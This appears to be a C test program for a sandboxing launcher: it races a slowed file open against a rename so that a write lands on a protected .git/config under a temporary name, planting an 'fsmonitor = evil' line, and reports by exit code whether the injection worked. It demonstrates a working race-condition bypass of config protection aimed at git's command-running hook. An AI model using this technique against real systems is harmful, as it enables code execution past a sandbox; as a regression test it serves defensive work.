/* Runs on the file system of held-requests.h. One thread opens `s/slow`, at which the launcher looks for long. Meanwhile the launcher
 * writes the new text of a git config under a name that no call could know before. Then the path of the open becomes that name.
 * Exits with 0 when the config has the text of this program, with 1 when it has not, with 3 when the name never appeared. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define FOLDER "below/.git"
#define CONFIG FOLDER "/config"
#define PLAIN "[core]\n\tbare = false\n"
#define EVIL PLAIN "\tfsmonitor = evil\n"

static char name[512] = "s/slow";

static void *open_name(void *fd)
{
	*(int *)fd = open(name, O_WRONLY);
	return fd;
}

static void *change_config(void *unused)
{
	rename("plain", CONFIG);
	return unused;
}

static int find_new_text(DIR *folder)
{
	for (int tries = 0; tries < 500; tries++, usleep(10000)) {
		rewinddir(folder);
		for (struct dirent *entry; (entry = readdir(folder));)
			if (strncmp(entry->d_name, "config.ion-", 11) == 0) {
				snprintf(name, sizeof(name), FOLDER "/%s", entry->d_name);
				return 1;
			}
	}
	return 0;
}

int main(void)
{
	char text[4096] = "";
	int opened = -1, plain = open("plain", O_WRONLY | O_CREAT | O_TRUNC, 0644);
	DIR *folder = opendir(FOLDER);
	pthread_t opens, changes;
	struct stat info;

	if (!folder || write(plain, PLAIN, strlen(PLAIN)) < 0)
		return 2;
	close(plain);
	pthread_create(&opens, NULL, open_name, &opened);
	usleep(300000);
	pthread_create(&changes, NULL, change_config, NULL);
	int found = find_new_text(folder);
	stat("go", &info);
	pthread_join(opens, NULL);
	pthread_join(changes, NULL);
	if (opened >= 0 && pwrite(opened, EVIL, strlen(EVIL), 0) < 0)
		return 2;
	int config = open(CONFIG, O_RDONLY);
	if (config < 0 || read(config, text, sizeof(text) - 1) < 0)
		return 2;
	return strstr(text, "evil") ? 0 : found ? 1 : 3;
}
